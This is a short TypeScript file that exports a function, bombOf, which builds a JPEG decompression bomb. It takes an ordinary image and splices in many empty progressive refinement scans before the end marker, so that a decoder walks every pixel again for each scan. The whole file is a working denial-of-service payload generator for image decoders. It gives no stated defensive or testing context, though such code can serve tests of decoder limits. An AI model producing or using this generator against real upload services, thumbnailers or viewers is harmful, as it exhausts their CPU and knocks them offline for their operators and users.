import sharp, { type Sharp } from 'sharp'

/** A progressive JPEG with more scans, which change nothing. A decoder goes through all pixels each time, and takes the file. */
export const bombOf = async (picture: Sharp, times: number): Promise<Buffer> => {
  const bytes = await picture.jpeg({ progressive: true }).toBuffer()
  const { width, height } = await sharp(bytes).metadata()
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  // Refines the brightness of each block by a bit, which is 0.
  const scan = Buffer.concat([Buffer.from('ffda0008010100000010', 'hex'), Buffer.alloc(Math.ceil(blocks / 8))])
  return Buffer.concat([bytes.subarray(0, -2), ...Array.from({ length: times }, () => scan), bytes.subarray(-2)])
}
